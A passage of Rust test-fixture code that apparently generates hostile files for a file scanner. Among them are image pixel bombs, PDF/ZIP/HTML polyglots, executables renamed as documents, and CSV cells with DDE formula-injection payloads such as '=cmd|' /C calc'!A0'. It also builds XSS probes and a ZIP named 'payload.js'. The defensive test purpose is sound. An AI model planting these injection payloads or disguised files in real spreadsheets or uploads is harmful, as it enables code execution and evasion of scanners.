    let mut bytes = Ooxml::docx().part("word/documenX.xml", "<x/>").build();
    // Rename the extra part's name in both headers, so two entries carry the same name.
    let from = b"word/documenX.xml";
    let to = b"word/document.xml";
    let mut at = 0;
    while let Some(found) = bytes[at..].windows(from.len()).position(|w| w == from) {
        let start = at + found;
        bytes[start..start + to.len()].copy_from_slice(to);
        at = start + to.len();
    }
    bytes
}

/// Sets the "encrypted" flag of every entry in a ZIP's local and central headers.
fn encrypted_flag(mut bytes: Vec<u8>) -> Vec<u8> {
    for (signature, flag_at) in [(b"PK\x03\x04", 6usize), (b"PK\x01\x02", 8usize)] {
        let mut at = 0;
        while let Some(found) = bytes[at..].windows(4).position(|w| w == signature) {
            let start = at + found;
            if let Some(flag) = bytes.get_mut(start + flag_at) {
                *flag |= 1;
            }
            at = start + 4;
        }
    }
    bytes
}

fn images(core: &mut Vec<Core>) {
    let zip = zip_files(&[("payload.js".into(), b"WScript.Shell".to_vec())], false);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("pixel-bomb.png", png_declaring(60_000, 60_000)),
        ("pixel-bomb-wide.png", png_declaring(1_000_000, 200)),
        ("pixel-bomb.jpg", jpeg_declaring(65_000, 65_000)),
        ("png-zip.png", [png(16, 16), zip.clone()].concat()),
        ("png-html.png", [png(16, 16), b"<html><script>alert(1)</script></html>".to_vec()].concat()),
        ("jpeg-pdf.jpg", [jpeg(16, 16), PdfBuilder::new(1).build()].concat()),
        ("jpeg-zip.jpg", [jpeg(16, 16), zip].concat()),
        ("png-chunk-overflow.png", {
            let mut bytes = png(16, 16);
            bytes[8..12].copy_from_slice(&u32::MAX.to_be_bytes());
            bytes
        }),
        ("gif-as.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;".to_vec()),
        ("bmp-as.jpg", b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00".to_vec()),
        (
            "pixel-bomb-in.docx",
            Ooxml::docx().part_bytes("word/media/image1.png", &png_declaring(50_000, 50_000)).build(),
        ),
        ("fake-picture.docx", Ooxml::docx().part_bytes("word/media/image1.png", b"MZ not a picture").build()),
    ];
    for (name, bytes) in cases {
        push(core, "image", name, bytes, None);
    }
}

fn renamed(core: &mut Vec<Core>) {
    let program =
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF\x00\x00 This program cannot be run in DOS mode.".to_vec();
    let elf = b"\x7FELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00".to_vec();
    let html = b"<!DOCTYPE html><html><body><script>fetch('https://example.org')</script></body></html>".to_vec();
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec();
    let ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00\x00\x00 old word".to_vec();
    let rtf = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}".to_vec();
    let cases: Vec<(String, Vec<u8>)> = vec![
        ("setup.pdf".into(), program.clone()),
        ("setup.docx".into(), program.clone()),
        ("setup.txt".into(), program.clone()),
        ("setup.png".into(), program.clone()),
        ("tool.jpg".into(), elf.clone()),
        ("tool.csv".into(), elf),
        ("page.txt".into(), html.clone()),
        ("page.csv".into(), html.clone()),
        ("page.pdf".into(), html),
        ("picture.txt".into(), svg),
        ("old.docx".into(), ole.clone()),
        ("old.xlsx".into(), ole),
        ("letter.docx".into(), rtf.clone()),
        ("letter.txt".into(), rtf),
        ("report.docx".into(), PdfBuilder::new(1).build()),
        ("report.pdf".into(), Ooxml::docx().build()),
        ("sheet.docx".into(), Ooxml::xlsx().build()),
        ("document.xlsx".into(), Ooxml::docx().build()),
        ("photo.png".into(), jpeg(8, 8)),
        ("photo.jpg".into(), png(8, 8)),
        ("utf16.txt".into(), b"\xFF\xFEh\x00i\x00".to_vec()),
        ("nul.csv".into(), b"a,b\n1,\x002\n".to_vec()),
        ("escape.txt".into(), b"text \x1b]0;title\x07 more".to_vec()),
    ];
    for (name, bytes) in cases {
        push(core, "renamed", &name, bytes, None);
    }
    for extension in
        ["exe", "js", "html", "svg", "docm", "xlsm", "zip", "rar", "doc", "bat", "scr", "lnk", "iso", "one"]
    {
        push(core, "renamed", &format!("attachment.{extension}"), b"harmless words".to_vec(), None);
    }
    push(core, "renamed", "double.pdf.exe", PdfBuilder::new(1).build(), None);
    push(core, "renamed", "no-extension", b"text".to_vec(), None);
}

fn polyglots(core: &mut Vec<Core>) {
    let zip = zip_files(&[("payload.js".into(), b"WScript.Shell".to_vec())], false);
    let pdf = PdfBuilder::new(1).build();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("pdf-zip.pdf", [pdf.clone(), zip.clone()].concat()),
        ("pdf-html.pdf", [pdf.clone(), b"<html><script>alert(1)</script>".to_vec()].concat()),
        ("pdf-in-text.txt", [b"Answers\n".to_vec(), pdf.clone()].concat()),
        ("pdf-in-csv.csv", [b"a,b\n1,2\n".to_vec(), b"%PDF-1.4 1 0 obj".to_vec()].concat()),
        ("zip-in-text.txt", [b"Plain words ".to_vec(), zip.clone()].concat()),
        ("pdf-header-in.docx", Ooxml::docx().stored().leading_part("customXml/item1.xml", b"<x>%PDF-1.7</x>").build()),
        ("zip-comment.pdf", {
            // A PDF whose last bytes are a ZIP end record whose comment spans the file's end.
            let mut bytes = pdf.clone();
            bytes.extend_from_slice(
                b"PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x07\x00%%EOF\r\n",
            );
            bytes
        }),
        ("png-pdf-header.png", {
            let mut bytes = png(8, 8);
            let text = b"%PDF-1.4 hidden";
            let mut chunk = Vec::new();
            png_chunk(&mut chunk, b"tEXt", text);
            bytes.splice(33..33, chunk);
            bytes
        }),
    ];
    for (name, bytes) in cases {
        push(core, "polyglot", name, bytes, None);
    }
}

fn formulas(core: &mut Vec<Core>) {
    let cells = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.org\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        " =1+1",
        "\t=1+1",
        "=IMPORTXML(CONCAT(\"https://example.org/?\",A1),\"//a\")",
        "=WEBSERVICE(\"https://example.org\")",
    ];
    for (index, cell) in cells.iter().enumerate() {
        let quoted = cell.replace('"', "\"\"");
        push(
            core,
            "csv_formula",
            &format!("formula-{index}.csv"),
            format!("item,price\nDesk,\"{quoted}\"\n").into_bytes(),
            None,
        );
        push(
            core,
            "csv_formula",
            &format!("formula-{index}-first.csv"),
            format!("\"{quoted}\",x\n").into_bytes(),
            None,
        );
        push(
            core,
            "csv_formula",
            &format!("formula-{index}-semicolon.csv"),
            format!("a;b;c\n1;2;\"{quoted}\"\n").into_bytes(),
            None,
        );
    }
}

/// A small deterministic generator (xorshift), enough to place mutations.
struct Rng(u64);

impl Rng {
    fn below(&mut self, bound: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % bound.max(1) as u64) as usize
    }
}
